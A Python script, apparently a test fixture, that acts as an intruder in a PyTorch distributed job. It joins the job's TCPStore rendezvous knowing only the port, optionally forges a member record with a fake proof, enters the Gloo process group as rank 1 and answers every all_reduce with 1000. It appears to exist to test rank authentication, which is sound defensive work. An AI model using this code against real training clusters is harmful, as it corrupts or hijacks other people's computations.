"""An intruder that knows only a job's MASTER_PORT and uses plain torch.

It connects to the rendezvous store, finds the job's keys, counts itself in as rank 1, marks the
rendezvous complete, initialises Gloo on the job's key prefix and answers every all_reduce with
1000. With ``--claim`` it also writes a record for rank 1 shaped like the job's own, with a
made-up proof (an intruder that read the protocol).

    python plain_torch.py PORT [--claim]
"""

from __future__ import annotations

import json
import sys
import time
from datetime import timedelta

import torch
import torch.distributed as dist


def main() -> int:
    port = int(sys.argv[1])
    claim = "--claim" in sys.argv
    store = dist.TCPStore("127.0.0.1", port, 2, False, timedelta(seconds=30))
    prefix = None
    for _ in range(300):
        keys = [k for k in store.list_keys() if k.startswith("accelbackends/")]
        if keys:
            prefix = keys[0].rsplit("/", 1)[0] + "/"
            if keys[0].count("/") > 3:  # accelbackends/<run>/<gen>/member/0
                prefix = keys[0].rsplit("/", 2)[0] + "/"
            break
        time.sleep(0.05)
    if prefix is None:
        print("intruder: no accelbackends keys found", flush=True)
        return 3
    print(f"intruder: found prefix {prefix!r}", flush=True)
    if claim:
        record = {"host": "intruder", "pid": 0, "world_size": 2, "proof": "0" * 64}
        if store.check([prefix + "nonce"]):
            record["nonce"] = store.get(prefix + "nonce").decode()
        store.add(prefix + "joined", 1)
        store.compare_set(prefix + "member/1", "", json.dumps(record, sort_keys=True))
    else:
        store.add(prefix + "joined", 1)
        store.set(prefix + "complete", "1")
    dist.init_process_group(
        "gloo",
        store=dist.PrefixStore(prefix, store),
        rank=1,
        world_size=2,
        timeout=timedelta(seconds=30),
    )
    # Mimic the barrier the job's ranks keep after init_process_group (its keys are visible).
    job = dist.PrefixStore(prefix, store)
    if job.add("accelbackends/connected", 1) >= 2:
        job.set("accelbackends/all-connected", "1")
    print("intruder: inside the job's process group", flush=True)
    answered = 0
    try:
        while True:
            dist.all_reduce(torch.full((1,), 1000.0))
            answered += 1
    except Exception:
        print(f"intruder: answered {answered} all_reduce calls", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
